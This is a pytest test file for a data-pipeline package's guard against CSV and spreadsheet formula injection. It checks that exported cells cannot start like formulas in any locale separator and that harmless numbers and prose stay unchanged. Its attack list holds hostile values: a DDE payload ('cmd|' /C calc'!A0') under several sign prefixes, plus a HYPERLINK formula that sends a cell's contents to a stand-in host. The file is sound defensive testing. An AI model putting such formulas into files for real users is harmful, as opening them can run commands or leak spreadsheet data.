"""A CSV for people runs nothing when a spreadsheet opens it, wherever its locale cuts cells."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest

from airflow_openai_batch.storage.location import resolve_plain
from airflow_openai_batch.tables.writing.formulas import guard_formulas
from airflow_openai_batch.tables.writing.write_table import TableFormat, TableOptions, open_table

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
CALL = "cmd|' /C calc'!A0"
ATTACKS = [
    *[f"{sign}{CALL}" for sign in SIGNS],
    '=HYPERLINK("http://x/?"&A1,"look")',
    "=1+1",
    "\n=1+1",
    "\r\n =1+1",
    "\t=1+1",
    " \u00a0\u3000=1+1",
    "\ufeff=1+1",
    "\0=1+1",
    ";=1+1",
    "good;=1+1",
    "good; \t=1+1",
    'good;"=1+1"',
    f"good\n-{CALL}",
    f"good\n- {CALL}",
    f"good\n+ {CALL}",
    f"3\r-3+{CALL}",
    ",=1+1",
    f"-2+3+{CALL}",
    "- a",
    "--1+1",
    "\tx",
]
HARMLESS = [
    *[
        "-12.5",
        "+3e5",
        "-1,234.5",
        "-7 %",
        "2020-01-01",
        "a=b",
        "good - bad",
        "1;-2;-3",
        "---",
        "=====",
        "'=1+1",
    ],
    *[
        "Pros:\n- cheap\n- quick\n\nCons:\n- small",
        "| a | b |\n|---|---|\n| - | -5 |",
        "",
        "see you @ nine",
        "x -> y",
    ],
]


def write_table(path: Path, format: TableFormat, texts: list[str], **options: bool) -> None:
    table = pa.table({"=a": texts})
    with open_table(resolve_plain(str(path)), format, table.schema, TableOptions(**options)) as writer:
        for batch in table.to_batches():
            writer.write(batch)


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_a_csv_begins_like_a_formula(tmp_path: Path, separator: str) -> None:
    """However its separator is chosen: with another one than the comma, quotes and line breaks do not hold either."""
    write_table(tmp_path / "a.csv", "csv", ["x", *ATTACKS])
    text = (tmp_path / "a.csv").read_bytes().decode()
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    cells += [cell for line in text.splitlines() for cell in line.split(separator)]
    ran = [cell for cell in cells if cell.lstrip(' \0\t\r\n\u00a0\u3000\ufeff"')[:1] in tuple(SIGNS)]
    assert ran == []


@pytest.mark.parametrize("text", ATTACKS)
def test_what_would_run_is_changed(text: str) -> None:
    assert guard_formulas(text) != text
    assert guard_formulas(text).replace("'", "") == text.replace("'", "")
    assert guard_formulas(guard_formulas(text)) in (guard_formulas(text), f"'{guard_formulas(text)}")


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_lists_and_prose_stay(text: str) -> None:
    assert guard_formulas(text) == text


def test_raw_cells_stay_as_they_are(tmp_path: Path) -> None:
    texts = [text.replace("\0", "") for text in ATTACKS]
    write_table(tmp_path / "a.csv", "csv", texts, raw_csv=True)
    with (tmp_path / "a.csv").open(newline="") as file:
        assert [row[0] for row in csv.reader(file)] == ["=a", *texts]


def test_long_texts_of_separators_take_no_time() -> None:
    start = time.process_time()
    for text in (
        ";" * 10**6,
        ("; " * 10**6),
        " " * 10**6,
        "\n- x" * 10**5,
        "\n-" * 10**5,
        "\n-1" * 10**5,
        "\n- " * 10**5,
    ):
        guard_formulas(text)
    assert time.process_time() - start < 5


def test_cells_of_a_workbook_are_text(tmp_path: Path) -> None:
    texts = [text for text in ATTACKS if "\0" not in text and "\r" not in text]
    write_table(tmp_path / "a.xlsx", "xlsx", texts)
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx").worksheets[0]
    assert [row[0].value for row in sheet.iter_rows()] == ["=a", *texts]
    assert {row[0].data_type for row in sheet.iter_rows()} == {"s"}
